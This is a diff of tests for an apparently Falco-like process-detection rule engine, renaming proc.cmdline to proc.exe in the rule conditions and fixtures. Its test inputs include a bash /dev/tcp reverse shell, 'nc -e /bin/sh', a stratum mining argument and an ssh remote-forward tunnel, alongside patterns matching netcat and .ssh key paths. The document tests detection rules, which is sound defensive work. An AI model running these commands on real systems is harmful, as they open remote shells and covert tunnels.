@@ -42,18 +42,18 @@ def hits(ruleset, kind: str = "exec", **fields) -> bool:
         ("not proc.name = nc", {}, True),
         ("proc.name in (nc, ncat, 'net cat')", {"proc__name": "net cat"}, True),
         ("proc.name in (nc, ncat)", {"proc__name": "socat"}, False),
-        ("proc.cmdline contains '/dev/tcp/'", {"proc__cmdline": "bash -i >& /dev/tcp/h/1"}, True),
-        ("proc.cmdline contains '/dev/tcp/'", {"proc__cmdline": "bash -i"}, False),
-        ("proc.cmdline icontains STRATUM", {"proc__cmdline": "-o stratum+tcp://x"}, True),
-        ("proc.cmdline contains STRATUM", {"proc__cmdline": "-o stratum+tcp://x"}, False),
+        ("proc.exe contains '/dev/tcp/'", {"proc__exe": "bash -i >& /dev/tcp/h/1"}, True),
+        ("proc.exe contains '/dev/tcp/'", {"proc__exe": "bash -i"}, False),
+        ("proc.exe icontains STRATUM", {"proc__exe": "-o stratum+tcp://x"}, True),
+        ("proc.exe contains STRATUM", {"proc__exe": "-o stratum+tcp://x"}, False),
         ("proc.exe startswith /tmp/", {"proc__exe": "/tmp/x"}, True),
         ("proc.exe startswith (/dev/shm/, /tmp/)", {"proc__exe": "/dev/shm/x"}, True),
         ("proc.exe endswith /ssh", {"proc__exe": "/usr/bin/ssh"}, True),
         ("proc.exe endswith /ssh", {"proc__exe": "/usr/bin/sshd"}, False),
         ("proc.exe glob '/home/*/.ssh/*'", {"proc__exe": "/home/a/.ssh/k"}, True),
         ("proc.exe glob '/home/*/.ssh/*'", {"proc__exe": "/root/.ssh/k"}, False),
-        (r"proc.cmdline regex '-[a-zA-Z]*R\s+\d+:'", {"proc__cmdline": "ssh -NR 80:h:80 x"}, True),
-        (r"proc.cmdline regex '^ssh\s'", {"proc__cmdline": "autossh -M 0 x"}, False),
+        (r"proc.exe regex '-[a-zA-Z]*R\s+\d+:'", {"proc__exe": "ssh -NR 80:h:80 x"}, True),
+        (r"proc.exe regex '^ssh\s'", {"proc__exe": "autossh -M 0 x"}, False),
         # list-valued fields: any element
         ("proc.args = -e", {"proc__args": ["nc", "-e", "/bin/sh"]}, True),
         ("proc.args in (-c, -e)", {"proc__args": ["nc", "-l"]}, False),
@@ -133,13 +133,13 @@ def test_exceptions_silence_a_rule() -> None:
 - rule: t.r
   desc: d
   condition: proc.name = python3
-  exceptions: ["proc.cmdline contains pytest", "proc.uid = 0"]
+  exceptions: ["proc.exe contains pytest", "proc.uid = 0"]
   severity: medium
 """
     rs = compile_sources([pack(text)])
-    assert hits(rs, proc__name="python3", proc__cmdline="python3 x.py", proc__uid=5)
-    assert not hits(rs, proc__name="python3", proc__cmdline="python3 -m pytest", proc__uid=5)
-    assert not hits(rs, proc__name="python3", proc__cmdline="python3 x.py", proc__uid=0)
+    assert hits(rs, proc__name="python3", proc__exe="python3 x.py", proc__uid=5)
+    assert not hits(rs, proc__name="python3", proc__exe="python3 -m pytest", proc__uid=5)
+    assert not hits(rs, proc__name="python3", proc__exe="python3 x.py", proc__uid=0)
 
 
 def test_kinds_are_indexed_from_condition_key_or_fields() -> None:
